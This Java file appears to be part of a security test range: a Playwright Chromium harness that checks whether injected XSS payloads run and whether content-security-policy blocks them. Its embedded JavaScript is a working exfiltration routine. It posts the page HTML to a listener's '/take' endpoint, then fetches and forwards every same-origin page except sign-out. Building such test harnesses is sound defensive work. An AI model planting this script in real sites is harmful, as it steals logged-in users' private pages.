package be.mijnfonds.range.inject;

import be.mijnfonds.range.browser.OwnChromium;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.Cookie;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Chromium, in which {@code mf(number)} is there before any page: what runs tells so even where a policy
 * lets nothing out, and so is counted whether or not it could have done harm.
 */
public final class Chromium implements AutoCloseable {
    /** A script that has a page sends it, and all that the page leads to, to its owner. */
    private static final String MF = """
            (() => {
              const send = (body) => fetch('%s/take', {method: 'POST', mode: 'no-cors', body}).catch(() => {});
              let sent = false;
              const all = async () => {
                send(document.documentElement.outerHTML);
                for (const link of document.querySelectorAll('a[href^="/"]'))
                  if (!link.href.includes('sign-out'))
                    await fetch(link.href).then(a => a.text()).then(send).catch(() => {});
              };
              Object.defineProperty(globalThis, 'mf', {value: number => {
                globalThis.__mfRan(number, location.href, document.documentElement.outerHTML);
                if (sent || number === 0) return;
                sent = true;
                if (document.readyState === 'complete') all(); else addEventListener('load', all);
              }});
              document.addEventListener('securitypolicyviolation', e =>
                globalThis.__mfTold(e.effectiveDirective + ' ' + (e.blockedURI || e.sourceFile)));
            })();
            """;

    /** @param where the page's address */
    public record Ran(int number, String where) {}

    private final Listener listener;
    private final Listener.Keep keep;
    private final OwnChromium chromium = new OwnChromium();
    private BrowserContext context;
    private final List<Ran> ran = new ArrayList<>();
    private final List<String> reports = new ArrayList<>();
    private int kept;

    /** @param keep what a script that ran could read, whether or not it got out */
    public Chromium(Listener listener, Listener.Keep keep) {
        this.listener = listener;
        this.keep = keep;
        context = profile();
    }

    /** Somebody else's browser: nothing kept of what was before. */
    public Page newProfile() {
        context.close();
        context = profile();
        return context.newPage();
    }

    public void cookie(String name, String value, String address) {
        context.addCookies(List.of(new Cookie(name, value).setUrl(address)));
    }

    private BrowserContext profile() {
        var profile = chromium.profile();
        profile.exposeBinding("__mfRan", (source, values) -> ran(values));
        profile.exposeBinding("__mfTold", (source, values) -> reports.add(String.valueOf(values[0])));
        profile.addInitScript(MF.formatted(listener.address()));
        return profile;
    }

    private Object ran(Object... values) {
        var number = ((Number) values[0]).intValue();
        ran.add(new Ran(number, String.valueOf(values[1])));
        // By our own hand, to see whether it is told: nobody took anything.
        if (number == 0) return "";
        try {
            keep.keep("ran/" + ++kept, String.valueOf(values[2]).getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return "";
    }

    /** Payloads that ran. */
    public List<Ran> ran() {
        return List.copyOf(ran);
    }

    /** What the policy stopped, by its own reports. */
    public List<String> reports() {
        return List.copyOf(reports);
    }

    /** Whether this one ran; it counts no more. */
    public boolean forget(int number) {
        return ran.removeIf(one -> one.number() == number);
    }

    public void forget() {
        ran.clear();
        reports.clear();
    }

    @Override
    public void close() {
        context.close();
        chromium.close();
    }
}
